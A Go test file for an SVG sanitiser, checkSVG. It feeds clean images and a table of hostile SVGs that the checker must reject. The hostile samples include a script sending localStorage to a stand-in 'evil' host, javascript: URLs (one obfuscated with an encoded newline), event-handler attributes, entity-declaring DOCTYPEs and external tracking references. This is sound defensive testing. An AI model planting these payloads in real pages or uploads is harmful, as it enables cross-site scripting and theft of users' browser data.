package content

import (
	"bytes"
	"strings"
	"testing"
)

func TestCheckSVG(t *testing.T) {
	const head = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`
	clean := []string{
		head + `<circle cx="5" cy="5" r="4" fill="teal"/></svg>`,
		`<?xml version="1.0" encoding="UTF-8"?>` + "\n<!-- a comment with <script> in it -->\n" + `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + "\n" + head + `<title>A &amp; B</title></svg>`,
		head + `<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><path id="p" d="M0 0h1"/></defs>` +
			`<rect width="10" height="10" fill="url(#g)" style="stroke: url('#g'); opacity: .5"/><use href="#p"/><use xlink:href="#p"/><a href="#p"><text>t</text></a></svg>`,
		head + `<style>.a { fill: url(#g) } text { font: 12px sans-serif }</style><image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/></svg>`,
		head + `<animate attributeName="opacity" from="0" to="1" dur="1s"/></svg>`,
	}
	for i, src := range clean {
		if got := checkSVG(strings.NewReader(src)); len(got) > 0 {
			t.Errorf("clean %d: %+v", i, got)
		}
	}
	hostile := []struct {
		src, want string
		line      int
	}{
		{head + "\n<script>fetch('//evil/'+JSON.stringify(localStorage))</script></svg>", "it has a <script> element", 2},
		{head + `<rect onload="alert(1)"/></svg>`, "it has an event attribute onload", 1},
		{head + "\n\n" + `<g ONCLICK="x()"/></svg>`, "it has an event attribute ONCLICK", 3},
		{head + `<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>`, "it has a <foreignObject> element", 1},
		{head + `<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script></svg>`, "it has a <script> element", 1},
		{head + `<use href="other.svg#x"/></svg>`, `its <use> refers to "other.svg#x", outside the image`, 1},
		{head + `<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `its <a> refers to "javascript:alert(1)"`, 1},
		{head + `<a href=" java&#x0A;script:alert(1)">x</a></svg>`, "javascript: URL", 1},
		{head + `<image href="https://evil.example/track.png"/></svg>`, `its <image> refers to "https://evil.example/track.png"`, 1},
		{head + `<image href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`, `refers to "data:image/svg+xml;base64,PHN2Zz4="`, 1},
		{head + `<rect style="fill: url(https://evil.example/x)"/></svg>`, `its style refers to "https://evil.example/x"`, 1},
		{head + `<rect fill="url('other.svg#g')"/></svg>`, `its style refers to "other.svg#g"`, 1},
		{head + `<style>@import url(#x);</style></svg>`, "its style imports another stylesheet", 1},
		{head + `<style>rect { background: url(//evil.example/x) }</style></svg>`, `its style refers to "//evil.example/x"`, 1},
		{`<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>` + head + `&x;</svg>`, "its DOCTYPE declares entities", 1},
		{`<?xml-stylesheet href="x.css"?>` + head + `</svg>`, "it has a processing instruction <?xml-stylesheet?>", 1},
		{head + `<animate attributeName="href" to="javascript:alert(1)"/></svg>`, "it animates the href attribute", 1},
		{head + `<set attributeName="xlink:href" to="x"/></svg>`, "it animates the xlink:href attribute", 1},
		{head + `<g xml:base="https://evil.example/"/></svg>`, "it has an xml:base attribute", 1},
		{head + "\n<g>\n</svg>", "this SVG is not well-formed XML", 3},
		{head + `<text>&nbsp;</text></svg>`, "this SVG is not well-formed XML", 1},
		{`<html><script>x()</script></html>`, "its root element is <html>, not <svg>", 1},
		{`just text`, "it has no <svg> element", 1},
		{head + `<iframe src="x.html"/></svg>`, "it has a <iframe> element", 1},
	}
	for _, tt := range hostile {
		got := checkSVG(strings.NewReader(tt.src))
		found := false
		for _, p := range got {
			found = found || strings.Contains(p.msg, tt.want) && p.line == tt.line
		}
		if !found {
			t.Errorf("%s\ngot %+v\nwant %q at line %d", tt.src, got, tt.want, tt.line)
		}
	}
}

// FuzzCheckSVG checks that any input is checked without panicking, the
// same way twice, with every problem on a line of the input.
func FuzzCheckSVG(f *testing.F) {
	f.Add([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><a href="#x" onclick="y"><use xlink:href="a.svg"/></a><style>p{}</style></svg>`))
	f.Add([]byte(`<!DOCTYPE svg [<!ENTITY x "y">]><svg>&x;</svg>`))
	f.Add([]byte("<?xml version=\"1.0\"?>\n<svg>\n<script/>\n</svg>"))
	f.Fuzz(func(t *testing.T, src []byte) {
		a, b := checkSVG(bytes.NewReader(src)), checkSVG(bytes.NewReader(src))
		if len(a) != len(b) {
			t.Fatalf("two checks differ: %v, %v", a, b)
		}
		lines := bytes.Count(src, []byte("\n")) + 1
		for i := range a {
			if a[i] != b[i] {
				t.Fatalf("two checks differ: %v, %v", a, b)
			}
			if a[i].line < 0 || a[i].line > lines {
				t.Fatalf("problem %+v outside the input's %d lines", a[i], lines)
			}
		}
		// Nothing with an event attribute or a script element passes.
		if len(a) == 0 && bytes.Contains(bytes.ToLower(src), []byte("<script")) && !bytes.Contains(src, []byte("<!--")) && !bytes.Contains(src, []byte("CDATA")) {
			t.Fatalf("accepted an image with a script: %q", src)
		}
	})
}
